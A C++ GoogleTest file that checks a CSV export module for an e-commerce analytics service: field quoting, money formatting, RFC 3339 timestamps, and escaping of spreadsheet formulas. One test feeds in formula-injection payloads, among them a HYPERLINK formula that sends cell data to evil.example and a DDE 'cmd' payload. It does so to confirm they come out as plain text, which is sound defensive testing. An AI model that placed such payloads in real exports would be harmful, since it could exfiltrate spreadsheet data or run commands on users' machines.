#include "query/csv_export.h"

#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "query/csv_test_reader.h"

namespace shopstream {
namespace {

using ::shopstream::testing::ParseCsv;
using ::testing::ElementsAre;

TEST(CsvExportTest, FieldsAreQuotedOnlyWhenTheyMustBe) {
  EXPECT_EQ(CsvField("prod-123"), "prod-123");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvField("cr\rhere"), "\"cr\rhere\"");
  EXPECT_EQ(CsvField("ünï ✓"), "ünï ✓");
}

TEST(CsvExportTest, MoneyHasTwoDecimals) {
  EXPECT_EQ(TwoDecimals(0), "0.00");
  EXPECT_EQ(TwoDecimals(99.99), "99.99");
  EXPECT_EQ(TwoDecimals(0.1 + 0.2), "0.30");
  EXPECT_EQ(TwoDecimals(5), "5.00");
  EXPECT_EQ(TwoDecimals(33.333333), "33.33");
  EXPECT_EQ(TwoDecimals(66.666667), "66.67");
  EXPECT_EQ(TwoDecimals(123456789012.34), "123456789012.34");
  EXPECT_EQ(TwoDecimals(-1.5), "-1.50");
}

TEST(CsvExportTest, TimeSeriesHasAHeaderAndARowPerBucket) {
  v1::TimeSeries series;
  series.set_bucket(v1::HOUR);
  auto* first = series.add_points();
  first->mutable_start()->set_seconds(1759399200);  // 2025-10-02T10:00:00Z
  first->set_page_views(3);
  first->set_add_to_carts(2);
  first->set_purchases(1);
  first->set_revenue(99.99);
  auto* second = series.add_points();
  second->mutable_start()->set_seconds(1759402800);
  EXPECT_EQ(TimeSeriesCsv(series),
            "bucket_start,page_views,add_to_carts,purchases,revenue\r\n"
            "2025-10-02T10:00:00Z,3,2,1,99.99\r\n"
            "2025-10-02T11:00:00Z,0,0,0,0.00\r\n");
}

TEST(CsvExportTest, TimestampsBeforeTheEpochAndWithFractionsAreRfc3339) {
  v1::TimeSeries series;
  auto* point = series.add_points();
  point->mutable_start()->set_seconds(-3600);
  auto* fractional = series.add_points();
  fractional->mutable_start()->set_seconds(1759399200);
  fractional->mutable_start()->set_nanos(500000000);
  const auto rows = ParseCsv(TimeSeriesCsv(series));
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[1][0], "1969-12-31T23:00:00Z");
  EXPECT_EQ(rows[2][0], "2025-10-02T10:00:00.5Z");
}

TEST(CsvExportTest, EmptyAnswersAreJustTheHeader) {
  EXPECT_EQ(TimeSeriesCsv(v1::TimeSeries()),
            "bucket_start,page_views,add_to_carts,purchases,revenue\r\n");
  EXPECT_EQ(TopProductsCsv(v1::TopProducts()),
            "product_id,page_views,add_to_carts,purchases,revenue,conversion_"
            "rate\r\n");
}

TEST(CsvExportTest, ProductIdsWithCommasQuotesAndNewlinesSurvive) {
  const std::vector<std::string> ids = {
      "plain", "a,b", "say \"hi\"", "two\r\nlines", "\"", ",", "", "1+2=3"};
  v1::TopProducts top;
  top.set_order_by(v1::REVENUE);
  int64_t views = 100;
  for (const std::string& id : ids) {
    auto* product = top.add_products();
    product->set_product_id(id);
    product->set_page_views(views--);
    product->set_add_to_carts(7);
    product->set_purchases(3);
    product->set_revenue(12.5);
    product->set_conversion_rate(3.03);
  }
  const auto rows = ParseCsv(TopProductsCsv(top));
  ASSERT_EQ(rows.size(), ids.size() + 1);
  EXPECT_THAT(rows[0], ElementsAre("product_id", "page_views", "add_to_carts",
                                   "purchases", "revenue", "conversion_rate"));
  for (size_t i = 0; i < ids.size(); ++i) {
    EXPECT_THAT(rows[i + 1], ElementsAre(ids[i], std::to_string(100 - i), "7",
                                         "3", "12.50", "3.03"))
        << "row " << i + 1;
  }
}

// A spreadsheet runs a cell starting with =, +, -, @, a tab or a carriage
// return as a formula; every such product id must read back as text.
TEST(CsvExportTest, ProductIdsThatWouldBeFormulasBecomeText) {
  const std::vector<std::string> ids = {
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
      "=1+2",
      "+1+2",
      "-1+2",
      "-5",
      "@SUM(A1:A9)",
      "\t=1+2",
      "\r=1+2",
      "=cmd|' /C calc'!A0",
      "\"=1\"",
  };
  v1::TopProducts top;
  for (const std::string& id : ids) {
    auto* product = top.add_products();
    product->set_product_id(id);
    product->set_page_views(-2);  // not a real count: a negative number
    product->set_purchases(3);
    product->set_revenue(-12.5);
    product->set_conversion_rate(-3.03);
  }
  const auto rows = ParseCsv(TopProductsCsv(top));
  ASSERT_EQ(rows.size(), ids.size() + 1);
  for (size_t i = 0; i < ids.size(); ++i) {
    const std::vector<std::string>& row = rows[i + 1];
    ASSERT_EQ(row.size(), 6u) << "row " << i + 1;
    const std::string& cell = row[0];
    if (ids[i].front() == '"') {
      EXPECT_EQ(cell, ids[i]);
    } else {
      EXPECT_EQ(cell, "'" + ids[i]);
    }
    for (const std::string& field : row) {
      EXPECT_EQ(std::string("=+@\t\r").find(field.front()), std::string::npos)
          << "row " << i + 1 << ": " << field;
    }
    // Numbers stay numbers, negative ones too.
    EXPECT_THAT(row, ElementsAre(cell, "-2", "0", "3", "-12.50", "-3.03"))
        << "row " << i + 1;
  }
}

TEST(CsvExportTest, NegativeNumbersInTheTimeSeriesStayNumbers) {
  v1::TimeSeries series;
  auto* point = series.add_points();
  point->mutable_start()->set_seconds(1759399200);
  point->set_page_views(-1);
  point->set_revenue(-99.99);
  EXPECT_EQ(TimeSeriesCsv(series),
            "bucket_start,page_views,add_to_carts,purchases,revenue\r\n"
            "2025-10-02T10:00:00Z,-1,0,0,-99.99\r\n");
}

}  // namespace
}  // namespace shopstream
